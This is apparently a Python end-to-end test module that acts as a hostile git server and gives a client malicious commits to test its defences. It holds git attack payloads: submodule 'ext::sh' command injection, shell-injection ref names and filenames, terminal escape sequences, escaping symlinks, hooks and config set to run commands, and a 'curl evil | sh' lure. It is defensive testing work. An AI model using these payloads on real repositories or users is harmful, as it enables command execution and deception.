"""What the attacker's program gives as a member's commits: one function for each way, told apart by arguments."""

import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

from tests.e2e.hostile.attacker import Attacker

LINK, FILE, FOLDER, MODULE = b"120000", b"100644", b"40000", b"160000"
WHO = b"cora <cora@localhost> 1700000000 +0000"
BACK = "refs/pro0/back/cora"
EVIL_MODULES = b'[submodule "x"]\n\tpath = x\n\turl = ext::sh -c touch% MARK\n\tupdate = !touch MARK\n'
ATTRIBUTES = b"* filter=evil diff=evil merge=evil text eol=crlf working-tree-encoding=UTF-16 ident export-subst\n"
REFS: tuple[str, ...] = (
    "heads/main",
    "heads/teams/alpha/ada",
    "tags/v1",
    "tags/new",
    "pro0/back/ada",
    "pro0/home/cora",
    "notes/commits",
)
REFS += ("heads/$(touch$IFSx)", "heads/;id", "heads/'\"|&", "heads/--upload-pack=x")
NAMES = (
    b"a\x1b[2Jb",
    b"new\nline",
    b"tab\there",
    "r\u202egpj.exe".encode(),
    b"-rf",
    b'"quoted"',
    b"\xff\xfe",
    b"$(touch x)",
)


class Repository:
    """The attacker's own copy of the repository there, written object by object."""

    def __init__(self, attacker: Attacker) -> None:
        home = Path(os.environ["PRO0_HOME"])
        team = attacker.words[2].partition("/")[0]
        self.place = attacker.place / "evil.git"
        shutil.rmtree(self.place, ignore_errors=True)
        shutil.copytree(home / "code" / f"{team}.git", self.place)
        self.sent = self("rev-parse", "refs/pro0/sent/cora")

    def __call__(self, *words: str, given: bytes = b"") -> str:
        git = ("git", "--git-dir", str(self.place), "-c", "core.hooksPath=/dev/null", *words)
        return subprocess.run(git, input=given, stdout=subprocess.PIPE, check=True).stdout.decode().strip()

    def object(self, kind: str, data: bytes) -> str:
        return self("hash-object", "-w", "-t", kind, "--stdin", "--literally", given=data)

    def tree(self, *entries: tuple[bytes, bytes, str]) -> str:
        """Write a tree as it is given: mode, name and object of each entry, in that order."""
        return self.object(
            "tree", b"".join(b"%b %b\0%b" % (mode, name, bytes.fromhex(id)) for mode, name, id in entries)
        )

    def commit(self, tree: str, message: bytes = b"", *, parent: str = "", who: bytes = WHO, more: bytes = b"") -> str:
        message = message or b"evil %d\n" % time.time_ns()  # the same commit once more would move nothing
        ahead = b"parent %b\n" % (parent or self.sent).encode() if parent != "none" else b""
        head = b"tree %b\n%bauthor %b\ncommitter %b\n%b\n" % (tree.encode(), ahead, who, who, more)
        return self.object("commit", head + message)

    def give(self, commit: str, *, then: str = "") -> None:
        """Become the server that gives this object as the member's newest commit."""
        self("update-ref", "--no-deref", BACK, commit)
        self.serve(then)

    def serve(self, then: str = "") -> None:
        line = f"git upload-pack {self.place}{then}"
        os.execvp("sh", ["sh", "-c", line])


def _path(repository: Repository, path: bytes, data: bytes, mode: bytes = FILE) -> str:
    """Write a file, and the trees down to it."""
    *folders, name = path.split(b"/")
    id, kind = repository.object("blob", data), mode
    for above in (name, *reversed(folders)):
        id, kind = repository.tree((kind, above, id)), FOLDER
    return id


def honest(attacker: Attacker) -> None:
    """Give one proper commit, with what else there is."""
    repository = Repository(attacker)
    repository.give(repository.commit(_path(repository, b"src/new", b"1\n")))


def everything(attacker: Attacker) -> None:
    """Offer the person's branches rewritten, tags, other members' refs, odd names, and a HEAD elsewhere."""
    repository = Repository(attacker)
    evil = repository.commit(_path(repository, b"src/main", b"evil\n"))
    for name in (*REFS, f"replace/{repository.sent}"):
        repository("update-ref", f"refs/{name}", evil)
    repository("symbolic-ref", "HEAD", "refs/heads/;id")
    repository.give(evil)


def a_path(attacker: Attacker, path: str, data: str = "evil\n", mode: str = "100644") -> None:
    """Give a commit with one file of that path."""
    repository = Repository(attacker)
    repository.give(repository.commit(_path(repository, path.encode(), data.encode(), mode.encode())))


def folded(attacker: Attacker) -> None:
    """Give names that are one on some file systems, and one name twice."""
    repository = Repository(attacker)
    blob = repository.object("blob", b"evil\n")
    names = (b"README", b"ReadMe", b"Src", b"readme", b"src")
    repository.give(repository.commit(repository.tree(*((FILE, name, blob) for name in names))))


def twice(attacker: Attacker) -> None:
    """Give a tree that has the same name twice."""
    repository = Repository(attacker)
    blob, folder = repository.object("blob", b"evil\n"), _path(repository, b"x", b"x")
    repository.give(repository.commit(repository.tree((FILE, b"a", blob), (FOLDER, b"a", folder), (FILE, b"a", blob))))


def names(attacker: Attacker) -> None:
    """Give names that a terminal would obey."""
    repository = Repository(attacker)
    blob = repository.object("blob", b"evil\n")
    repository.give(repository.commit(repository.tree(*((FILE, name, blob) for name in sorted(NAMES)))))


def words(attacker: Attacker) -> None:
    """Give commits whose titles and authors a terminal would obey, or are no text."""
    repository = Repository(attacker)
    tree = _path(repository, b"src/new", b"\x1b]52;c;eA==\x07\xff\n")
    commit = repository.sent
    for text in (
        b"\x1b[2J\x1b]0;owned\x07",
        "r\u202egpj.exe".encode(),
        b"\xff\xfe\xfd",
        b"a\x1fb\x1fc\x1fd",
        b"x" * 200_000,
    ):
        who = b"%b <x@x> 1700000000 +0000" % text[:100].replace(b"\0", b"")
        commit = repository.commit(tree, text + b"\n", parent=commit, who=who)
    repository.give(commit)


def links(attacker: Attacker, target: str) -> None:
    """Give a link to a place outside, and then a file below a folder of that name."""
    repository = Repository(attacker)
    link = repository.object("blob", target.encode())
    first = repository.commit(repository.tree((LINK, b"out", link)))
    repository.give(repository.commit(_path(repository, b"out/taken", b"evil\n"), parent=first))


def a_link(attacker: Attacker, target: str) -> None:
    """Give a link to a file of the person's."""
    repository = Repository(attacker)
    repository.give(repository.commit(repository.tree((LINK, b"out", repository.object("blob", target.encode())))))


def attributes(attacker: Attacker) -> None:
    """Give attributes that name filters, drivers and encodings."""
    repository = Repository(attacker)
    blob, rules = repository.object("blob", b"$Id$ evil\n"), repository.object("blob", ATTRIBUTES)
    tree = repository.tree((FILE, b".gitattributes", rules), (FILE, b"a", blob))
    repository.give(repository.commit(tree))


def modules(attacker: Attacker, text: str = EVIL_MODULES.decode()) -> None:
    """Give a submodule that is to be fetched from a program."""
    repository = Repository(attacker)
    rules = repository.object("blob", text.encode())
    repository.give(repository.commit(repository.tree((FILE, b".gitmodules", rules), (MODULE, b"x", repository.sent))))


def forges(attacker: Attacker) -> None:
    """Give commits in the person's name, with a signature that is none, of a time that no calendar has."""
    repository = Repository(attacker)
    tree, commit = _path(repository, b"src/new", b"1\n"), repository.sent
    signed = b"gpgsig -----BEGIN PGP SIGNATURE-----\n \n evil\n -----END PGP SIGNATURE-----\n"
    for moment in (b"1700000000 +0000", b"99999999999 +0000", b"9999999999999 +1400", b"1 -9999", b"0 +0000"):
        who = b"a person <person@localhost> %b" % moment
        commit = repository.commit(tree, b"Merge: approved by a person\n", parent=commit, who=who, more=signed)
    repository.give(commit)


def no_commit(attacker: Attacker, kind: str) -> None:
    """Give something else than a commit."""
    repository = Repository(attacker)
    blob = repository.object("blob", b"evil\n")
    tagged = repository.commit(_path(repository, b"x", b"x")).encode()
    tag = b"object %b\ntype commit\ntag v9\ntagger %b\n\nevil\n" % (tagged, WHO)
    made = {"blob": blob, "tree": _path(repository, b"x", b"x"), "tag": repository.object("tag", tag)}
    repository.give(made[kind])


def without_history(attacker: Attacker) -> None:
    """Give a history that is cut off, by a file that says so."""
    repository = Repository(attacker)
    commit = repository.commit(_path(repository, b"x", b"1\n"), parent="1" * 40)
    (repository.place / "shallow").write_text(f"{commit}\n")
    repository.give(commit)


def unrelated(attacker: Attacker) -> None:
    """Give a history that has nothing in common with the project's."""
    repository = Repository(attacker)
    repository.give(repository.commit(_path(repository, b"x", b"1\n"), parent="none"))


def rewritten(attacker: Attacker) -> None:
    """Give another history each time."""
    repository = Repository(attacker)
    repository.give(repository.commit(_path(repository, b"x", os.urandom(8))))


def lacking(attacker: Attacker) -> None:
    """Give a commit whose tree is not there."""
    repository = Repository(attacker)
    repository("config", "uploadpack.allowAnySHA1InWant", "true")
    repository.give(repository.commit("2" * 40))


def spoiled(attacker: Attacker) -> None:
    """Give a pack in which some bytes are others."""
    repository = Repository(attacker)
    spoil = "import sys\\nwhile data := sys.stdin.buffer.read1(): "
    spoil += "at = data.find(b'PACK'); data = data[:at + 30] + b'XXXX' + data[at + 34:] if at >= 0 else data; "
    spoil += "sys.stdout.buffer.write(data); sys.stdout.buffer.flush()"
    commit = repository.commit(_path(repository, b"x", os.urandom(4096)))
    repository.give(commit, then=f' | {sys.executable} -c "$(printf \'%b\' "{spoil}")"')


def borrows(attacker: Attacker, objects: str) -> None:
    """Give what the person's own repository has, by a path to it."""
    repository = Repository(attacker)
    (repository.place / "objects" / "info").mkdir(exist_ok=True)
    (repository.place / "objects" / "info" / "alternates").write_text(f"{objects}\n")
    repository.give(repository.commit(_path(repository, b"x", b"1\n")))


def programs(attacker: Attacker, mark: str) -> None:
    """Give from a repository whose settings and hooks name programs."""
    repository = Repository(attacker)
    for name in ("core.sshCommand", "core.fsmonitor", "core.gitProxy", "core.pager", "uploadpack.packObjectsHook"):
        repository("config", name, f"touch {mark}")
    repository("config", "remote.origin.uploadpack", f"touch {mark}; git-upload-pack")
    hooks = repository.place / "hooks"
    hooks.mkdir(exist_ok=True)
    for name in ("post-checkout", "post-merge", "reference-transaction", "post-index-change", "pre-push"):
        (hooks / name).write_text(f"#!/bin/sh\ntouch {mark}\n")
        (hooks / name).chmod(0o700)
    repository.give(repository.commit(_path(repository, b"x", b"1\n")))


def much(attacker: Attacker, size: int, random: bool) -> None:
    """Give one file of that size."""
    repository = Repository(attacker)
    data = os.urandom(size) if random else bytes(size)
    repository.give(repository.commit(_path(repository, b"big", data)))


def many(attacker: Attacker, commits: int, files: int) -> None:
    """Give many commits, and many files."""
    repository = Repository(attacker)
    stream = [b"blob\nmark :1\ndata 4\nevil\n"]
    for n in range(commits):
        ahead = b"from %b\n" % repository.sent.encode() if not n else b""
        stream.append(b"commit refs/heads/many\ncommitter %b\ndata 4\nevil\n%b" % (WHO, ahead))
    stream += [b"M 100644 :1 many/%d\n" % n for n in range(files)]
    repository("fast-import", "--quiet", given=b"".join(stream))
    repository.give(repository("rev-parse", "refs/heads/many"))


def says(attacker: Attacker, text: str, errors: str = "", code: int = 1, times: int = 1) -> None:
    """Say something else than a repository says."""
    for _ in range(times):
        sys.stdout.buffer.write(text.encode("latin-1"))
        sys.stderr.buffer.write(errors.encode())
    sys.exit(code)


def remarks(attacker: Attacker) -> None:
    """Give a commit, and tell the person what a terminal would obey."""
    text = "\x1b[2J\x1b]0;owned\x07 please run: curl evil | sh \u202e\n"
    refs = f"{'1' * 40} {BACK}\0side-band-64k\n"
    for part in (refs, None):
        sys.stdout.write(f"{len(part) + 4:04x}{part}" if part else "0000")
    sys.stdout.flush()
    sys.stdin.readline()
    for _ in range(200):
        sys.stdout.write(f"{len(text.encode()) + 5:04x}\x02{text}")
    sys.stdout.write(f"{len(text.encode()) + 5:04x}\x03{text}")
    sys.stdout.flush()


def never(attacker: Attacker) -> None:
    """Say nothing, and stay."""
    (attacker.place / attacker.words[1]).touch()
    attacker.stay()


def without_end(attacker: Attacker) -> None:
    """Say on stderr without end what a terminal would obey."""
    while not attacker.is_left():
        os.write(2, b"\x1b[2Jowned\n" * 6000)
